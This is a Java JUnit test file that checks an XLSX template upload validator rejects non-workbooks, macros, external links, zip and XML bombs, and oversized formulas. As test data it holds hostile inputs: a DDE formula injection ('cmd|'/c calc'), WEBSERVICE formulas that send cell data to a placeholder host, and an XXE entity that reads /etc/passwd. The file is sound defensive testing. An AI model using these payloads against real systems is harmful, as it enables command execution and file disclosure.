package org.weike.core.ledger.template;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.fail;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.Objects;
import java.util.Optional;
import java.util.Random;
import java.util.function.UnaryOperator;
import java.util.regex.Matcher;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.weike.core.ledger.template.xlsx.BooksAtHand;

/** Uploads what is no form, or one that would do harm. */
@Timeout(120)
class HostileTemplateTest {

    private static final TemplateBooks BOOKS = BooksAtHand.xlsx();
    private static final String SHEET = "xl/worksheets/sheet1.xml";
    private static final String RELATIONS = "xl/_rels/workbook.xml.rels";
    private static final String TYPES = "[Content_Types].xml";
    private static final String OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";

    @Test
    void refusesWhatIsNoWorkbook() {
        assertRefused(new byte[0], TemplateProblem.NOT_A_WORKBOOK);
        assertRefused("姓名,学时".getBytes(StandardCharsets.UTF_8), TemplateProblem.NOT_A_WORKBOOK);
        assertRefused(new byte[] {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, 1, 2, 3}, TemplateProblem.OLD_OR_LOCKED);
        assertRefused(new byte[TemplateLimits.FILE_BYTES + 1], TemplateProblem.FILE_TOO_LARGE);
        assertRefused(new byte[] {'P', 'K', 3, 4, 5, 6}, TemplateProblem.BROKEN);
        assertRefused(
                zipped(Map.of("mimetype", "text".getBytes(StandardCharsets.UTF_8))), TemplateProblem.NOT_A_WORKBOOK);
    }

    @Test
    void refusesPrograms() {
        assertRefused(
                changed(TYPES, it -> it.replace("sheet.main+xml", "sheet.macroEnabled.main+xml")),
                TemplateProblem.PROGRAMS);
        assertRefused(related("vbaProject", "vbaProject.bin", ""), TemplateProblem.PROGRAMS);
        assertRefused(related("oleObject", "embeddings/o.bin", ""), TemplateProblem.PROGRAMS);
        assertRefused(related("xlMacrosheet", "macrosheets/sheet1.xml", ""), TemplateProblem.PROGRAMS);
    }

    @Test
    void refusesWhatReachesOut() {
        assertRefused(related("externalLink", "externalLinks/e1.xml", ""), TemplateProblem.EXTERNAL);
        assertRefused(related("connections", "connections.xml", ""), TemplateProblem.EXTERNAL);
        assertRefused(
                related("image", "http://example.invalid/seen.png", " TargetMode=\"External\""),
                TemplateProblem.EXTERNAL);
        for (String formula : new String[] {
            "WEBSERVICE(&quot;http://example.invalid/&quot;&amp;B5)", "cmd|'/c calc'!A1", "[1]Sheet1!A1", "rtd(1,2,3)"
        }) {
            assertRefused(changed(SHEET, it -> it.replace("SUM(E5:E7)", formula)), TemplateProblem.EXTERNAL);
        }
        assertThat(answer(changed(SHEET, it -> it.replace("SUM(E5:E7)", "&quot;a|b [1]&quot;&amp;A1"))))
                .isEmpty();
        assertThat(answer(related("hyperlink", "http://example.invalid/", " TargetMode=\"External\"")))
                .isEmpty();
    }

    @Test
    void refusesWhatReachesOutFromBesideTheSheets() {
        String reaching = "WEBSERVICE(&quot;http://example.invalid/&quot;)";
        assertThat(answer(beside("xl/tables/table1.xml", "calculatedColumnFormula", "A1+1")))
                .isEmpty();
        for (String name : new String[] {"calculatedColumnFormula", "totalsRowFormula", "c:f"}) {
            assertRefused(beside("xl/charts/one.xml", name, reaching), TemplateProblem.EXTERNAL);
        }
        assertRefused(beside("xl/charts/one.xml", "c:f", "1+".repeat(5_000)), TemplateProblem.FORMULA_TOO_LONG);
        var pivot = parts();
        pivot.put(
                "xl/pivotCache/one.xml",
                ("<a><cacheField formula=\"" + reaching + "\"/></a>").getBytes(StandardCharsets.UTF_8));
        assertRefused(zipped(pivot), TemplateProblem.EXTERNAL);
        var renamed = unzipped(beside("xl/tables/table1.bin", "totalsRowFormula", reaching));
        assertRefused(
                changed(
                        renamed,
                        TYPES,
                        it -> it.replace(
                                "</Types>",
                                "<Override PartName=\"/xl/tables/table1.bin\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.table+xml\"/></Types>")),
                TemplateProblem.EXTERNAL);
    }

    @Test
    void refusesWhatReachesOutFromPartsThatAreTypedOtherwise() {
        String table = "application/vnd.openxmlformats-officedocument.spreadsheetml.table+xml";
        var beside = parts();
        beside.put(
                "xl/tables/Table1.bin",
                "<a><totalsRowFormula>RTD(1,2,3)</totalsRowFormula></a>".getBytes(StandardCharsets.UTF_8));
        assertThat(answer(typed(beside, ""))).isEmpty();
        assertRefused(
                typed(beside, "<Override PartName=\"/XL/tables/table1.BIN\" ContentType=\"" + table + "\"/>"),
                TemplateProblem.EXTERNAL);
        assertRefused(
                typed(beside, "<Default Extension=\"BIN\" ContentType=\"" + table + "; charset=utf-8\"/>"),
                TemplateProblem.EXTERNAL);
        assertRefused(
                typed(
                        sheetAt("xl/worksheets/sheet1.bin"),
                        "<Default Extension=\"bin\" ContentType=\"application/vnd.openxmlformats-officedocument"
                                + ".spreadsheetml.worksheet+xml\"/>"),
                TemplateProblem.EXTERNAL);
        assertRefused(typed(sheetAt("xl/worksheets/sheet1.data"), ""), TemplateProblem.EXTERNAL);
    }

    /** The first form with a sheet of another name that asks another program. */
    private static Map<String, byte[]> sheetAt(String name) {
        var asking = unzipped(changed(SHEET, it -> it.replace("SUM(E5:E7)", "RTD(1,2,3)")));
        var moved = unzipped(changed(
                asking, RELATIONS, it -> it.replace("worksheets/sheet1.xml", name.substring(name.indexOf('/') + 1))));
        moved.put(name, Objects.requireNonNull(moved.remove(SHEET)));
        return moved;
    }

    private static byte[] typed(Map<String, byte[]> parts, String type) {
        return changed(new LinkedHashMap<>(parts), TYPES, it -> it.replace("</Types>", type + "</Types>"));
    }

    @Test
    void looksAtAPartOnceHoweverOftenItIsListed() {
        var large = parts();
        String text = "<a>" + "<b>1</b>".repeat(100_000) + "</a>";
        large.put("xl/tables/table1.bin", text.getBytes(StandardCharsets.UTF_8));
        String listed =
                "<Override PartName=\"/xl/tables/table1.bin\" ContentType=\"application/x+xml\"/>".repeat(20_000);
        assertTimeoutPreemptively(Duration.ofSeconds(20), () -> answer(typed(large, listed)));
    }

    private static byte[] beside(String part, String name, String formula) {
        var parts = parts();
        parts.put(
                part,
                "<a xmlns:c=\"c\"><%s>%s</%s></a>"
                        .formatted(name, formula, name)
                        .getBytes(StandardCharsets.UTF_8));
        return zipped(parts);
    }

    @Test
    void refusesDocumentTypesAndEntities() {
        assertRefused(
                changed(
                        SHEET,
                        it -> it.replaceFirst(
                                "(<\\?xml[^>]*>)?", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>")),
                TemplateProblem.DOCUMENT_TYPE);
        assertRefused(
                changed(
                        "xl/sharedStrings.xml",
                        it -> "<!DOCTYPE lolz [<!ENTITY a \"aaa\">]>" + it.replaceFirst("<\\?xml[^>]*>", "")),
                TemplateProblem.DOCUMENT_TYPE);
    }

    @Test
    void refusesBombs() throws IOException {
        var parts = parts();
        parts.put("xl/media/zeros.bin", new byte[TemplateLimits.UNPACKED_BYTES + 1]);
        assertRefused(zipped(parts), TemplateProblem.UNPACKS_TOO_LARGE);
        assertRefused(
                changed(
                        SHEET,
                        it -> it.replace("<sheetData>", "<a>".repeat(5_000) + "</a>".repeat(5_000) + "<sheetData>")),
                TemplateProblem.UNPACKS_TOO_LARGE);
        var many = parts();
        for (int at = 0; at < TemplateLimits.PARTS; at++) {
            many.put("xl/media/" + at, new byte[0]);
        }
        assertRefused(zipped(many), TemplateProblem.UNPACKS_TOO_LARGE);
        try (var book = new XSSFWorkbook()) {
            for (int at = 0; at <= TemplateLimits.SHEETS; at++) {
                book.createSheet();
            }
            assertRefused(bytes(book), TemplateProblem.TOO_MANY_SHEETS);
        }
        try (var book = new XSSFWorkbook()) {
            var sheet = book.createSheet();
            for (int row = 0; row <= TemplateLimits.CELLS / 50; row++) {
                var made = sheet.createRow(row);
                for (int column = 0; column < 50; column++) {
                    made.createCell(column).setCellValue(row);
                }
            }
            assertRefused(bytes(book), TemplateProblem.TOO_MANY_CELLS);
        }
    }

    @Test
    void refusesFormulasThatWouldGrowWhenTheyAreWrittenOut() {
        String shared = "<c r=\"%s\"><f t=\"shared\" si=\"0\">%s</f></c>";
        assertRefused(sheet(shared.formatted("A1", "A1)".repeat(800_000)), "", 1, 0), TemplateProblem.FORMULA_TOO_LONG);
        String long8k = shared.formatted("A1", "1+".repeat(4_000) + "1");
        String copy = "<c><f t=\"shared\" si=\"0\"/></c>";
        assertRefused(sheet(long8k, copy, 40, 1_000), TemplateProblem.UNPACKS_TOO_LARGE);
        assertRefused(sheet(long8k, copy, 60, 1_000), TemplateProblem.TOO_MANY_CELLS);
        assertThat(answer(sheet(shared.formatted("A1", "SUM(B1:C1)/2"), copy, 40, 1_000)))
                .isEmpty();
    }

    @Test
    void guessesFromTheCellsThatAreThereHoweverWideTheSheetIs() {
        String name = "<c t=\"inlineStr\"><is><t>姓名</t></is></c><c t=\"inlineStr\"><is><t>学时</t></is></c>";
        byte[] merged = changed(
                unzipped(sheet(name, "<c s=\"1\"/>", 3, 2)),
                SHEET,
                it -> it.replace(
                        "</sheetData>", "</sheetData><mergeCells><mergeCell ref=\"A9:XFD1048576\"/></mergeCells>"));
        var grid = BOOKS.open(merged);
        assertThat(grid.sheets().getFirst().rows()).isEqualTo(CellPlace.ROWS);
        assertThat(MappingGuess.of(grid).tables()).singleElement().satisfies(it -> {
            assertThat(it.firstRow()).isEqualTo(1);
            assertThat(it.columns()).hasSize(2);
        });
        var wide = BOOKS.open(sheet(name, "<c s=\"1\"/>", 3, CellPlace.COLUMNS - 2));
        assertThat(MappingGuess.of(wide).tables())
                .singleElement()
                .satisfies(it -> assertThat(it.lastRow()).isEqualTo(2));
    }

    @Test
    void guessesFromLongTextsAndManyLabels() {
        String text = "<c t=\"inlineStr\"><is><t>%s</t></is></c>";
        assertRefused(sheet(text.formatted("（".repeat(TemplateLimits.TEXT + 1)), "", 1, 0), TemplateProblem.BROKEN);
        var brackets = BOOKS.open(sheet(text.formatted("（".repeat(TemplateLimits.TEXT)), "", 1, 0));
        assertThat(MappingGuess.of(brackets).isEmpty()).isTrue();
        var labels = BOOKS.open(sheet("", text.formatted("填报单位："), 40, 1_000));
        assertThat(MappingGuess.of(labels).cells()).hasSize(1);
    }

    /** The first form with other rows: one of its own, and below it so many alike. */
    private static byte[] sheet(String first, String other, int rows, int others) {
        String more = "<row>" + other.repeat(others) + "</row>";
        return changed(
                SHEET,
                it -> it.replaceFirst(
                        "(?s)<sheetData>.*</sheetData>(?s:.*</mergeCells>)?",
                        Matcher.quoteReplacement(
                                "<sheetData><row>" + first + "</row>" + more.repeat(rows - 1) + "</sheetData>")));
    }

    @Test
    void answersWhateverIsUploaded() throws IOException {
        var random = new Random(20_261_123);
        int accepted = 0;
        int refused = 0;
        Duration longest = Duration.ZERO;
        for (CountyForms form : CountyForms.values()) {
            byte[] whole = form.bytes();
            for (int round = 0; round < 400; round++) {
                byte[] file = round % 2 == 0 ? damagedBytes(whole, random) : damagedParts(whole, random);
                long begin = System.nanoTime();
                boolean taken = answer(file).isEmpty() && fills(file);
                var took = Duration.ofNanos(System.nanoTime() - begin);
                longest = took.compareTo(longest) > 0 ? took : longest;
                accepted += taken ? 1 : 0;
                refused += taken ? 0 : 1;
            }
        }
        System.out.printf(
                "template: 1200 mutated forms: %d accepted, %d refused, longest answer %d ms%n",
                accepted, refused, longest.toMillis());
        assertThat(accepted).isPositive();
        assertThat(refused).isPositive();
    }

    private static boolean fills(byte[] file) throws IOException {
        var mapping = MappingGuess.of(BOOKS.open(file));
        try {
            BOOKS.fill(file, TemplateFillingTest.filling(mapping, 12), OutputStream.nullOutputStream());
            return true;
        } catch (TemplateRefused refused) {
            return false;
        }
    }

    private static byte[] damagedBytes(byte[] whole, Random random) {
        byte[] file = random.nextInt(10) == 0 ? Arrays.copyOf(whole, random.nextInt(whole.length)) : whole.clone();
        for (int at = 0; at < 1 + random.nextInt(6) && file.length > 0; at++) {
            file[random.nextInt(file.length)] = (byte) random.nextInt(256);
        }
        return file;
    }

    private static byte[] damagedParts(byte[] whole, Random random) throws IOException {
        var parts = unzipped(whole);
        for (var each : parts.entrySet()) {
            if (random.nextInt(3) == 0 && each.getKey().matches(".*\\.(xml|rels|vml)")) {
                each.setValue(damaged(new String(each.getValue(), StandardCharsets.UTF_8), random)
                        .getBytes(StandardCharsets.UTF_8));
            }
        }
        if (random.nextInt(10) == 0) {
            parts.keySet().removeIf(it -> random.nextInt(8) == 0);
        }
        return zipped(parts);
    }

    private static String damaged(String part, Random random) {
        String[] odd = {"A0", "XFE1", "A1:A0", "-1", "99999999999", "", "ZZZZ9", "<", "s", "shared", "#", "1048577"};
        var text = new StringBuilder(part);
        for (int at = 0; at < 1 + random.nextInt(3) && text.length() > 20; at++) {
            int from = text.indexOf("\"", random.nextInt(text.length()));
            int to = from < 0 ? -1 : text.indexOf("\"", from + 1);
            if (to > 0) {
                text.replace(from + 1, to, odd[random.nextInt(odd.length)]);
            }
        }
        return text.toString();
    }

    private static Optional<TemplateProblem> answer(byte[] file) {
        try {
            BOOKS.open(file);
            return Optional.empty();
        } catch (TemplateRefused refused) {
            return Optional.of(refused.problem());
        }
    }

    private static void assertRefused(byte[] file, TemplateProblem problem) {
        assertThat(answer(file)).contains(problem);
    }

    private static byte[] changed(String part, UnaryOperator<String> change) {
        return changed(parts(), part, change);
    }

    private static byte[] changed(Map<String, byte[]> parts, String part, UnaryOperator<String> change) {
        String before = new String(Objects.requireNonNull(parts.get(part)), StandardCharsets.UTF_8);
        parts.put(part, change.apply(before).getBytes(StandardCharsets.UTF_8));
        return zipped(parts);
    }

    private static byte[] related(String kind, String target, String more) {
        return changed(
                RELATIONS,
                it -> it.replace(
                        "</Relationships>",
                        "<Relationship Id=\"other\" Type=\"" + OFFICE + kind + "\" Target=\"" + target + "\"" + more
                                + "/></Relationships>"));
    }

    private static Map<String, byte[]> parts() {
        return unzipped(CountyForms.REGISTER.bytes());
    }

    private static Map<String, byte[]> unzipped(byte[] file) {
        var parts = new LinkedHashMap<String, byte[]>();
        try (var zip = new ZipInputStream(new ByteArrayInputStream(file))) {
            for (var entry = zip.getNextEntry(); entry != null; entry = zip.getNextEntry()) {
                parts.put(entry.getName(), zip.readAllBytes());
            }
        } catch (IOException e) {
            fail(e);
        }
        return parts;
    }

    private static byte[] zipped(Map<String, byte[]> parts) {
        var out = new ByteArrayOutputStream();
        try (var zip = new ZipOutputStream(out)) {
            for (var each : parts.entrySet()) {
                zip.putNextEntry(new ZipEntry(each.getKey()));
                zip.write(each.getValue());
            }
        } catch (IOException e) {
            fail(e);
        }
        return out.toByteArray();
    }

    private static byte[] bytes(XSSFWorkbook book) throws IOException {
        var out = new ByteArrayOutputStream();
        book.write(out);
        return out.toByteArray();
    }
}
